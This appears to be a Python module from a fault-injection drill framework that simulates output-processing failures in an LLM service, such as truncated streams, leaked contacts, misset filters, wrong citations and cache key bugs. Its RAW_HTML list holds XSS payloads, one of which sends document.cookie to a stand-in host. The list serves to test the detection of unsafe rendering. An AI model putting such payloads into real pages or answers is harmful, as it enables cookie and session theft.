"""Faults of output processing: what happens to an answer between the model and the user."""

from random import Random

import orjson

from holdfast.core.change import ChangeKind
from holdfast.core.diagnosis import Layer
from holdfast.drills import compose
from holdfast.drills.faults.fault import Fault, behaves
from holdfast.drills.faults.garble import mojibake
from holdfast.drills.faults.people import person
from holdfast.drills.phrases import FILTERED
from holdfast.drills.turn import Behaviour, Stage, Turn


def mangle_json(turn: Turn, chaos: Random) -> bool:
    """The repair step loses values although the model's JSON was right; the schema still holds."""
    try:
        value = orjson.loads(turn.answer)
    except orjson.JSONDecodeError:
        return False
    value["priority"] = chaos.choice([p for p in ("low", "normal", "high") if p != value.get("priority")])
    value["category"] = turn.application.sources[0] if value.get("category") != turn.application.sources[0] else "other"
    value["summary"] = str(value.get("summary", ""))[: chaos.randint(8, 20)]
    turn.delivered = orjson.dumps(value).decode()
    turn.harmed = True
    return True


def lose_tail(turn: Turn, chaos: Random) -> bool:
    """The stream ends early or is decoded wrongly: the user misses the end, the model's record is complete."""
    if len(turn.answer) < 24:
        return False
    end = int(len(turn.answer) * chaos.uniform(0.4, 0.75))
    turn.delivered = turn.answer[:end]
    if chaos.random() < 0.4:
        turn.delivered = f"{mojibake(turn.delivered, chaos, 0.08)}\ufffd"
    turn.harmed = True
    return True


def leak_contact(turn: Turn, chaos: Random) -> bool:
    """Personal data that the redactor should have masked is shown."""
    if turn.route.shape == "json" or not turn.delivered:
        return False
    name, contact = person(chaos)
    turn.answer = f"{turn.answer} The contact on file is {name}, {contact}."
    turn.delivered = turn.answer
    turn.harmed = True
    return True


def block_harmless(turn: Turn, chaos: Random) -> bool:
    """The filter takes harmless answers for toxic ones."""
    if turn.route.shape == "json":
        return False
    turn.delivered = FILTERED
    _judge(turn, "deny", chaos.uniform(0.31, 0.5))
    turn.harmed = True
    return True


def _judge(turn: Turn, verdict: str, score: float) -> None:
    for run in turn.guardrails:
        if run.name == "output_check":
            run.verdict, run.score, run.output = verdict, score, turn.delivered
            run.action = "block" if verdict == "deny" else ""


def cite_neighbour(turn: Turn, chaos: Random) -> bool:
    """Citations point to the document after the right one."""
    titles = {a.id: a.title for a in turn.application.articles[turn.language]}
    if turn.article is None or turn.article.title not in turn.answer:
        return False
    others = [titles[i] for d in turn.documents if (i := d.id.split(".")[0]) in titles and i != turn.article.id]
    if not others:
        return False
    turn.delivered = turn.answer.replace(turn.article.title, others[0])
    turn.harmed = True
    return True


def not_translated(turn: Turn, chaos: Random) -> bool:
    """The translation step gives English, or half of each, although the model answered in the right language."""
    if turn.language == "en" or turn.article is None or turn.route.shape == "json":
        return False
    english = {a.id: a for a in turn.application.articles["en"]}.get(turn.article.id)
    if english is None:
        return False
    text = " ".join(fact.answer for fact in english.facts[:2])
    turn.delivered = text if chaos.random() < 0.7 else f"{turn.answer[: len(turn.answer) // 2]} {text}"
    turn.harmed = True
    return True


RAW_HTML = (
    "<img src=x onerror=\"fetch('https://collect.example.net/?c='+document.cookie)\">",
    "<script>window.location='https://collect.example.net/'</script>",
    "![status](https://collect.example.net/p.png?q=session)",
    "[Details](javascript:alert(document.domain))",
)


def render_raw(turn: Turn, chaos: Random) -> bool:
    """The renderer passes HTML and links on without escaping."""
    if turn.route.shape == "json" or not turn.answer:
        return False
    turn.delivered = f"{turn.answer} {chaos.choice(RAW_HTML)}"
    turn.harmed = True
    return True


def answer_of_another(turn: Turn, chaos: Random) -> bool:
    """The cache forgot the user in its key: somebody else's answer comes, the same one to many."""
    recent = Random(turn.request.time_ns // 300_000_000_000 * 8 + chaos.randrange(8))
    if turn.tool is not None:
        values = compose.misremembered(turn, turn.tool, recent)
        for name, specification in turn.tool.arguments.items():
            values[name] = compose.draw(specification, recent, values)
        turn.delivered = turn.tool.answers[0].format_map(values)
    else:
        article = recent.choice(turn.application.articles["en"])
        fact = recent.choice(article.facts)
        turn.delivered = f"{fact.answer} {article.facts[0].answer} (Source: {article.title})"
    turn.cache_hit = True
    turn.harmed = True
    return turn.route.shape != "json"


def no_output_check(turn: Turn, chaos: Random) -> None:
    """The check of answers no longer runs."""
    turn.guardrails = [run for run in turn.guardrails if run.name != "output_check"]


FAULTS = (
    Fault(
        name="json_repair_mangles",
        number=35,
        layer=Layer.OUTPUT_PROCESSING,
        title="A new release of the JSON repair step changes values",
        change=ChangeKind.CODE,
        target="post-processor",
        shape="json",
        cohort=("route",),
        strikes={Stage.DELIVERED: mangle_json},
        signature=("answer_altered", "negative_feedback"),
    ),
    Fault(
        name="redactor_broken",
        number=37,
        layer=Layer.OUTPUT_PROCESSING,
        title="The redactor of personal data lets everything through",
        change=ChangeKind.CODE,
        target="output-redactor",
        cohort=("route",),
        strikes={Stage.DELIVERED: leak_contact},
        rate=0.25,
        signature=("sensitive_output",),
    ),
    Fault(
        name="streaming_truncation",
        number=39,
        layer=Layer.OUTPUT_PROCESSING,
        title="A new streaming proxy drops the end of answers",
        change=ChangeKind.CODE,
        target="streaming-proxy",
        cohort=("region",),
        strikes={Stage.DELIVERED: lose_tail},
        signature=("answer_altered", "garbled_text", "truncation", "negative_feedback"),
    ),
    Fault(
        name="toxicity_filter_misset",
        number=36,
        layer=Layer.OUTPUT_PROCESSING,
        title="The threshold of the toxicity filter was set far too low",
        change=ChangeKind.GUARDRAIL,
        target="output_check",
        from_value="threshold=0.8",
        to_value="threshold=0.3",
        cohort=("route",),
        strikes={Stage.DELIVERED: block_harmless},
        rate=0.35,
        signature=("guardrail_block", "answer_altered", "negative_feedback"),
    ),
    Fault(
        name="citation_off_by_one",
        number=38,
        layer=Layer.OUTPUT_PROCESSING,
        title="The linker resolves citations to the next document",
        change=ChangeKind.CODE,
        target="citation-linker",
        shape="rag",
        cohort=("route",),
        strikes={Stage.DELIVERED: cite_neighbour},
        rate=0.95,
        signature=("answer_altered", "ungrounded_answer", "negative_feedback"),
    ),
    Fault(
        name="translation_failure",
        number=40,
        layer=Layer.OUTPUT_PROCESSING,
        title="The translation step returns English",
        change=ChangeKind.CODE,
        target="translator",
        shape="rag",
        cohort=("language",),
        strikes={Stage.DELIVERED: not_translated},
        rate=0.6,
        signature=("language_mismatch", "answer_altered"),
    ),
    Fault(
        name="unsafe_rendering",
        number=41,
        layer=Layer.OUTPUT_PROCESSING,
        title="The renderer no longer escapes HTML and links",
        change=ChangeKind.CODE,
        target="renderer",
        cohort=("route",),
        strikes={Stage.DELIVERED: render_raw},
        rate=0.2,
        signature=("unsafe_markup", "answer_altered"),
    ),
    Fault(
        name="response_cache_key_bug",
        number=42,
        layer=Layer.OUTPUT_PROCESSING,
        title="The response cache forgot the user in its key",
        change=ChangeKind.CODE,
        target="response-cache",
        cohort=("route",),
        strikes={Stage.DELIVERED: answer_of_another},
        rate=0.3,
        signature=("answer_altered", "duplicate_answer", "answer_irrelevance", "cache_hit"),
    ),
    Fault(
        name="filter_disabled",
        number=43,
        layer=Layer.OUTPUT_PROCESSING,
        title="The check of answers was switched off",
        change=ChangeKind.FLAG,
        target="output_check",
        from_value="on",
        to_value="off",
        shape="rag",
        cohort=("route",),
        exposes={Stage.DELIVERED: no_output_check},
        strikes={Stage.PROMPTED: behaves(Behaviour.INVENTED)},
        rate=0.15,
        signature=("guardrail_block", "ungrounded_answer", "unsupported_numbers"),
    ),
)
